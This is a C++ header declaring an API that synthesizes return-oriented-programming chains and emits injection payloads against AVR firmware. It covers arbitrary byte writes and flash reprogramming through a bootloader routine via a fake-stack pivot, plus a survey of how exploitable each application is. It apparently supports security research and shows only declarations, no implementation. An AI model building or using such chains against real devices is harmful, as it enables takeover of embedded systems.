#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "avrrop/gadgets.hpp"

namespace avrrop {

enum class GoalKind : std::uint8_t { WriteByte, Reprogram };

/// Parameters stay symbolic until emission.
struct ChainGoal {
  GoalKind kind = GoalKind::WriteByte;

  static ChainGoal write_byte() { return {GoalKind::WriteByte}; }
  static ChainGoal reprogram() { return {GoalKind::Reprogram}; }
  bool operator==(const ChainGoal&) const = default;
};

enum class SlotKind : std::uint8_t { GadgetAddrLow, GadgetAddrHigh, Param, Padding, RebootVector };

// Parameter names used in Param slots.
inline constexpr const char* kParamTargetLow = "target_lo";
inline constexpr const char* kParamTargetHigh = "target_hi";
inline constexpr const char* kParamValue = "value";
inline constexpr const char* kParamFspLow = "fsp_lo";
inline constexpr const char* kParamFspHigh = "fsp_hi";

struct PayloadSlot {
  std::uint16_t offset = 0;
  SlotKind kind = SlotKind::Padding;
  std::string param;          // Param only
  std::uint8_t gadget = 0;    // GadgetAddr*: index into GadgetChain::gadgets

  bool operator==(const PayloadSlot&) const = default;
};

enum class Strategy : std::uint8_t { Ideal, LoadThenStore, Bridged, Pivot };

struct GadgetChain {
  ChainGoal goal;
  Strategy strategy = Strategy::Ideal;
  std::vector<Gadget> gadgets;
  std::vector<PayloadSlot> layout;
  std::uint16_t payload_length = 0;  // bytes from the return-address overwrite on
  // WriteByte: displacement of the store, subtracted from the target at emission.
  std::uint8_t store_displacement = 0;
  // Reprogram: bootloader routine reached through the fake stack, and the
  // registers the pivot pops from it, in order.
  std::optional<std::uint32_t> spm_entry;
  std::vector<std::uint8_t> post_pivot_pops;

  std::vector<std::uint32_t> entries() const;
  bool operator==(const GadgetChain&) const = default;
};

struct SynthesisConstraints {
  std::uint16_t max_packet_payload = 28;
  std::uint16_t buffer_start = 0x105B;
  std::uint16_t ram_end = kRamEnd;
  std::uint16_t padding_prefix = 4;
  std::size_t max_chains = 32;

  void validate() const;  // InvalidArgument
};

std::string_view to_string(Strategy s);
std::string_view to_string(SlotKind k);

/// Chains in ascending payload_length, ties broken by entry addresses.
/// NoChainFound when the catalog cannot realize the goal;
/// ConstraintUnsatisfiable when every candidate breaks the constraints.
std::vector<GadgetChain> synthesize_chain(const GadgetCatalog& catalog, const ChainGoal& goal,
                                          const SynthesisConstraints& constraints = {});

/// Prefix bytes 0,1,2,... then the layout with target/value bound.
std::vector<std::uint8_t> emit_injection_payload(const GadgetChain& chain, std::uint16_t target,
                                                 std::uint8_t value,
                                                 const SynthesisConstraints& constraints = {});

std::vector<std::uint8_t> emit_reprogramming_payload(const GadgetChain& chain, std::uint16_t fake_sp,
                                                     const SynthesisConstraints& constraints = {});

std::string chain_json(const GadgetChain& chain, const std::vector<std::uint8_t>& payload);
std::string to_hex(const std::vector<std::uint8_t>& bytes);

/// One row of the per-application survey: application, code size (KB) and
/// injection payload length including the prefix, or "none".
struct SurveyRow {
  std::string application;
  double code_size_kb = 0;
  std::optional<std::uint16_t> payload_length;

  bool operator==(const SurveyRow&) const = default;
};

SurveyRow survey_application(const FirmwareImage& image, const SynthesisConstraints& constraints = {});
std::string survey_table(const std::vector<SurveyRow>& rows);

}  // namespace avrrop
